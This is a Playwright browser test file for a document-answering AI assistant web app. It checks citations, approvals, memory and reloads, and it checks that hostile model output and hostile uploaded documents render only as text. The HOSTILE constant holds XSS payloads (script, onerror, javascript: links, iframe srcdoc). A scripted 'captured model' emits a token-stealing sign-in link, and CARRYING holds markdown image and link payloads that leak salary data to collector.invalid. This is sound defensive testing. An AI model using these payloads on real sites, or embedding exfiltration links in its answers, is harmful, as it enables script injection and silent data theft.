"""The page in a real browser, against the whole server: what people see and do, and what a text cannot do to them."""

import asyncio
import re
from pathlib import Path
from typing import TYPE_CHECKING

from agent.model import ModelRequest
from domain.kernel import Role
from domain.resources import resource_folder
from server.hub import HubOptions
from tests.browser.browsing import add_document, ask, ask_for_approval, marks, messages_of, sign_in
from tests.support.database import Database
from tests.support.firms import FIRM_B
from tests.support.held import Held
from tests.support.scripted_model import ScriptedModel, Turn, says
from tests.support.served import Served, served

if TYPE_CHECKING:
    from playwright.async_api import Page, Route

pytestmark = marks

POLICY = "documents/acme-audit/policies/engagement-letter-policy.md"
QUESTION = "When must the engagement letter be renewed, and who signs it?"

HOSTILE = """<script>window.hacked = 1</script> <img src=x onerror="window.hacked=2"> <b>bold?</b>

[a link](javascript:window.hacked=3) [another](data:text/html,<script>window.hacked=4</script>) [real](https://bank.example/x)

`<svg onload=window.hacked=5>` **<iframe srcdoc="<script>parent.hacked=6</script>">**

| <img src=x onerror=window.hacked=7> | b |
|---|---|
| <style>*{display:none}</style> | c |
"""


def hostile(request: ModelRequest) -> Turn:
    """A model that was taken over; it would also have its reader sign in as somebody else."""
    found = re.search(r"http://127\.0\.0\.1:\d+", str(request))
    return says(HOSTILE, f"\n[sign in]({found[0] if found else ''}/#token=stolen)\n")


async def test_question_is_answered_with_a_call_and_a_citation_that_opens(page: "Page", server: Served) -> None:
    await sign_in(page, server, fragment="&documents")
    await add_document(page, str(Path(resource_folder("demo")) / POLICY), "engagement-letter-policy")

    await page.click("text=New conversation")
    await page.click(f"button:has-text('{QUESTION}')")
    await page.wait_for_selector(".sources")
    answer = await page.inner_text(".run .text")
    assert "every twelve months" in answer
    assert "engagement partner" in answer

    summary = page.locator(".call summary").first
    assert "knowledge_search" in await summary.inner_text()
    await summary.click()
    assert "allow" in await page.inner_text(".call .inside")

    await page.locator(".chip").first.click()
    assert "engagement-letter-policy" in await page.inner_text("#panel")
    passage = page.locator("#panel .source-quote")
    marked = " ".join((await passage.locator("mark").inner_text()).split())
    assert "every twelve months" in marked
    assert marked in " ".join(answer.split())
    assert len(await passage.inner_text()) > len(marked)
    await page.keyboard.press("Escape")
    assert await page.locator("#panel").is_hidden()


LEDGER = """# The ledger of 𝄞 medlars 🍐

🍐🍐 𝔐edlars are weighed at the gate, and 𝔐edlars alone.

{quote}

What is left over is pressed 🍐.
"""
QUOTE = "The medlar ledger is closed on the ninth working day of the month."


async def test_cited_words_are_marked_though_letters_before_them_take_two_units(
    page: "Page", server: Served, tmp_path: Path
) -> None:
    document = tmp_path / "medlars.md"
    document.write_text(LEDGER.format(quote=QUOTE))
    await sign_in(page, server, fragment="&documents")
    await add_document(page, str(document), "medlars")
    await page.click("text=New conversation")
    await ask(page, "On which day is the medlar ledger closed?")
    await page.locator(".chip").first.click()
    assert await page.inner_text("#panel mark") == QUOTE
    passage = await page.inner_text("#panel .source-quote")
    assert "🍐🍐 𝔐edlars are weighed at the gate" in passage

    await page.reload()
    await page.locator(".chip").first.click()
    assert await page.inner_text("#panel .source-quote") == passage
    assert await page.inner_text("#panel mark") == QUOTE


async def test_conversation_is_still_there_after_a_reload(page: "Page", server: Served) -> None:
    await sign_in(page, server)
    await ask(page, "What may you do on your own?")
    said = await page.inner_text(".run .text >> nth=-1")
    assert re.search("#conversation=[0-9a-f-]{36}$", page.url)
    await page.reload()
    await page.wait_for_selector(".run .text")
    assert await page.inner_text(".run .text >> nth=-1") == said
    assert await page.locator(".conversations a[aria-current]").count() == 1


async def test_call_that_waits_is_reviewed_and_approved_on_the_page(page: "Page", server: Served) -> None:
    await sign_in(page, server, Role.MANAGER)
    await ask_for_approval(page, "Create a task to refresh the analytics")
    await page.click("nav >> text=Approvals")
    await page.click(".card-title")
    await page.wait_for_selector(".sheet .decide")
    assert "#approval=" in page.url
    assert "refresh_analytics" in await page.inner_text(".sheet .values")
    assert "manager@more-1.example" in await page.inner_text(".sheet .facts")

    await page.fill(".decide textarea", "Go ahead")
    await page.click(".decide >> text=Approve")
    await page.wait_for_selector(".sheet .result")
    assert "executed" in await page.inner_text(".sheet-head")
    assert "done" in await page.inner_text(".sheet .result")
    assert "Go ahead" in await page.inner_text(".sheet .facts")
    assert await page.locator(".decide").count() == 0

    await page.click("nav >> text=Tasks")
    await page.wait_for_selector(".card:has-text('workflow refresh_analytics')")
    await page.click("nav >> text=Activity")
    await page.wait_for_selector(".ledger tbody tr")
    assert "needs approval" in await page.inner_text(".ledger")


async def test_what_is_remembered_is_added_reworded_and_forgotten_on_the_page(page: "Page", server: Served) -> None:
    await sign_in(page, server)
    await page.click("nav >> text=Memory")
    await page.fill("input[aria-label=Remember]", "Call me <b>Ms Borg</b>.")
    await page.click("text=Add")
    await page.wait_for_selector(".card .kept:text-is('Call me <b>Ms Borg</b>.')")

    await page.click(".card >> text=Edit")
    await page.fill("input[aria-label='In other words']", "Call me Freja.")
    await page.click("text=Save")
    await page.wait_for_selector(".card .kept:text-is('Call me Freja.')")
    assert await page.locator(".card").count() == 1

    await page.click(".card >> text=Forget")
    await page.wait_for_selector("text=Forgotten.")
    assert await page.locator(".card").count() == 0


async def test_rejected_call_is_not_made(page: "Page", server: Served) -> None:
    await sign_in(page, server, Role.MANAGER)
    await ask_for_approval(page, "Create a task to refresh the analytics")
    await page.fill(".sheet .decide textarea", "Not now")
    await page.click(".sheet >> text=Reject")
    await page.wait_for_selector(".sheet .result")
    assert "rejected" in await page.inner_text(".sheet-head")


async def test_what_came_of_an_answer_stands_though_the_run_tells_of_it_first(page: "Page", server: Served) -> None:
    await sign_in(page, server, Role.MANAGER)
    await ask_for_approval(page, "Create a task to refresh the analytics")
    asked, answered = asyncio.Event(), asyncio.Event()

    async def told_last(route: "Route") -> None:
        asked.set()
        await answered.wait()
        await route.continue_()

    async def held(route: "Route") -> None:
        answer = await route.fetch()
        await asked.wait()
        await route.fulfill(response=answer)
        await page.wait_for_selector(".sheet .result")
        answered.set()

    await page.route("**/v1/approvals/*", told_last)
    await page.route("**/v1/approvals/*/decision", held)
    async with page.expect_response(lambda response: bool(re.search(r"/v1/approvals/[^/?]+$", response.url))) as told:
        await page.click(".sheet >> text=Reject")
    await (await told.value).finished()
    # What it says has been taken in, and drawn.
    await page.evaluate(
        "() => new Promise((drawn) => setTimeout(() => requestAnimationFrame(() => setTimeout(drawn))))"
    )
    assert await page.locator(".sheet .result").count() == 1


async def test_what_a_captured_model_says_is_only_ever_text(page: "Page", firms: Database) -> None:
    async with served(firms, HubOptions(model=ScriptedModel(brain=hostile))) as server:
        await sign_in(page, server)
        await ask(page, f"<img src=x onerror=window.hacked=8> hello {server.url}")
        assert "<script>window.hacked = 1</script>" in await page.inner_text(".run .text")
        assert "onerror=window.hacked=8" in await page.inner_text(".said")
        assert f"sign in ({server.url}/#token=stolen)" in await page.inner_text(".run .text")
        link = page.locator(".run .text a")
        assert await link.count() == 1
        assert await link.get_attribute("href") == "https://bank.example/x"
        assert "noopener" in (await link.get_attribute("rel") or "")
        assert "bank.example" in await page.inner_text(".where")
        assert await page.locator(".run .text :is(script, img, iframe, svg, style, b)").count() == 0
        await page.reload()
        await page.wait_for_selector(".run .text")
        assert await page.evaluate("window.hacked") is None


CARRIER = "https://collector.invalid/p?d=remuneration%201%2C234%2C567"
CARRYING = f"""![logo]({CARRIER}) ![][pic] [report]({CARRIER}) <img src="{CARRIER}"> <{CARRIER}>

[![badge]({CARRIER})]({CARRIER}) <link rel=prefetch href="{CARRIER}"> <a ping="{CARRIER}" href="{CARRIER}">x</a>

[pic]: {CARRIER}
"""


async def test_an_address_in_an_answer_is_asked_by_nobody_until_its_reader_follows_it(
    page: "Page", firms: Database
) -> None:
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    async with served(firms, HubOptions(model=ScriptedModel(brain=lambda _: says(CARRYING)))) as server:
        await sign_in(page, server)
        await ask(page, "What do the papers say?")
        links = page.locator(".run .text a", has_text="report")
        assert await links.get_attribute("href") == CARRIER
        assert "collector.invalid" in await page.inner_text(".where >> nth=0"), "where it leads is shown beside it"
        await links.hover()
        await page.reload()
        await page.wait_for_selector(".run .text")
        assert [url for url in asked if not url.startswith((server.url, "data:", "blob:"))] == []

        # Who follows it carries out what it holds: that is the reader's doing, and nothing keeps them from it.
        await page.context.route("https://collector.invalid/**", lambda route: route.fulfill(body="thanks"))
        async with page.context.expect_page() as opened:
            await links.click()
        await (await opened.value).wait_for_load_state()
        assert CARRIER in asked


async def test_what_a_document_says_is_only_ever_text(page: "Page", server: Served, tmp_path: Path) -> None:
    document = tmp_path / "<img src=x onerror=window.hacked=9>.md"
    document.write_text(f"# Retention of quince files\n\nQuince files are kept for nine years. {HOSTILE}\n")
    await sign_in(page, server, fragment="&documents")
    await add_document(page, str(document), "onerror=window.hacked=9")
    await page.click("text=New conversation")
    await ask(page, "How long are quince files kept?")
    await page.locator(".source").first.click()
    assert "nine years" in await page.inner_text("#panel")
    await page.locator(".call summary").first.click()
    assert await page.locator("body :is(img, iframe, style)").count() == 0
    assert await page.evaluate("window.hacked") is None


async def test_whoever_adds_a_file_says_whose_words_it_holds(page: "Page", server: Served, tmp_path: Path) -> None:
    await sign_in(page, server, fragment="&documents")
    for name, chosen in (("Quince letter", None), ("Quince handbook", "internal")):
        (tmp_path / f"{name}.md").write_text(f"# {name}\n\nWords of the {name}.\n")
        if chosen is not None:
            await page.select_option("#whose", chosen)
        await add_document(page, str(tmp_path / f"{name}.md"), name)
    assert "Somebody else" in await page.inner_text("tr:has-text('Quince letter')")
    assert "The firm" in await page.inner_text("tr:has-text('Quince handbook')")


async def test_a_run_that_is_going_is_taken_up_again_after_a_reload_and_can_be_stopped(
    page: "Page", firms: Database
) -> None:
    held = Held()
    async with served(firms, HubOptions(model=ScriptedModel(brain=lambda _: says("one ", "two"), pace=held))) as server:
        await sign_in(page, server)
        await page.fill("#message", "Count for me")
        await page.keyboard.press("Enter")
        await held.reached.wait()
        await page.wait_for_selector("text=Stop")
        await page.wait_for_url(re.compile("#conversation="))
        await page.reload()
        await page.wait_for_selector(".thinking")
        await page.click("text=Stop")
        await page.wait_for_selector(".note:has-text('Stopped.')")
        held.released.set()


async def test_a_ceiling_that_handovers_lowered_is_shown_and_ended_by_choosing_an_agent(
    page: "Page", server: Served
) -> None:
    sent = messages_of(page)
    # The tests before it reject such calls in the other firm, and so many rejections take a tool's autonomy back.
    await sign_in(page, server, "partner", firm=FIRM_B)
    who = page.locator(".speaker select")
    await page.wait_for_selector(".speaker option >> nth=4", state="attached")
    assert await chosen(page) == "The firm's assistant · up to L3"
    await ask(page, "Talk to the librarian")
    assert await chosen(page) == "The librarian · up to L1"
    await ask_again(page, "Talk to the assistant")
    assert await chosen(page) == "The firm's assistant · held at L1"
    await ask_for_approval(page, "Create a task to refresh the analytics")
    await page.reload()
    # Nobody else can be chosen while the run waits.
    assert await page.inner_text(".speaker select.held:disabled option:checked") == "The firm's assistant · held at L1"
    # It still waits after the reload, and goes on in its place.
    await page.click(".sheet.waits >> text=Reject")
    await page.wait_for_selector(".run .text:has-text('I did not create the task')")
    await page.wait_for_selector(".composer button[type=submit]:not([hidden])")

    await who.select_option("assistant")
    await ask_again(page, "Create a task to refresh the analytics")
    assert await chosen(page) == "The firm's assistant · up to L3"
    last = page.locator(".run").last
    assert "done" in await last.locator(".call summary").inner_text()
    assert await last.locator(".sheet").count() == 0
    await ask_again(page, "What may you do on your own?")
    assert [message.get("agent") for message in sent] == [None, None, None, "assistant", None]


async def test_what_is_said_before_the_past_is_shown_waits_in_the_field(page: "Page", server: Served) -> None:
    sent = messages_of(page)
    await sign_in(page, server, "partner")
    await ask(page, "What may you do on your own?")
    shown = asyncio.Event()

    async def late(route: "Route") -> None:
        await shown.wait()
        await route.continue_()

    await page.route("**/messages*", late)
    await page.reload()
    await page.fill("#message", "And once more?")
    await page.keyboard.press("Enter")
    assert await page.input_value("#message") == "And once more?"
    shown.set()
    await page.wait_for_selector(".run .call")
    await ask_again(page, "And once more?")
    both = ["What may you do on your own?", "And once more?"]
    assert [message["message"] for message in sent] == both
    assert await page.locator(".said p").all_inner_texts() == both
    assert await page.locator(".said ~ .run").last.inner_text()


async def chosen(page: "Page") -> str:
    """What the choice of an agent shows."""
    await page.wait_for_selector(".speaker select:enabled")
    return await page.locator(".speaker select").evaluate("(node) => node.selectedOptions[0].textContent")


async def ask_again(page: "Page", message: str) -> None:
    """Say something more, and wait until it is answered."""
    await page.wait_for_selector(".composer button[type=submit]:not([hidden])")
    before = await page.locator(".run").count()
    await page.fill("#message", message)
    await page.keyboard.press("Enter")
    await page.locator(".run").nth(before).wait_for()
    await page.wait_for_selector(".composer button[type=submit]:not([hidden])")


async def test_message_to_a_conversation_that_answers_another_tab_is_given_back_and_not_sent_again(
    page: "Page", firms: Database
) -> None:
    held, holding = Held(), False

    async def pace() -> None:
        if holding:
            await held()

    model = ScriptedModel(brain=lambda _: says("one ", "two"), pace=pace)
    async with served(firms, HubOptions(model=model)) as server:
        await sign_in(page, server)
        await ask(page, "First")
        await page.wait_for_url(re.compile("#conversation="))
        other = await page.context.new_page()
        await sign_in(other, server, fragment=f"&{page.url.split('#')[1]}")
        await other.wait_for_selector(".run .text")
        holding = True
        await other.fill("#message", "From the other tab")
        await other.keyboard.press("Enter")
        await held.reached.wait()

        await page.fill("#message", "From here")
        await page.keyboard.press("Enter")
        await page.click("text=Show it")
        await page.wait_for_selector(".said:has-text('From the other tab')")
        assert await page.locator(".said").count() == 2
        assert await page.input_value("#message") == "From here"
        held.released.set()
        await page.wait_for_selector(".composer button[type=submit]:not([hidden])")
        assert len(model.requests) == 2
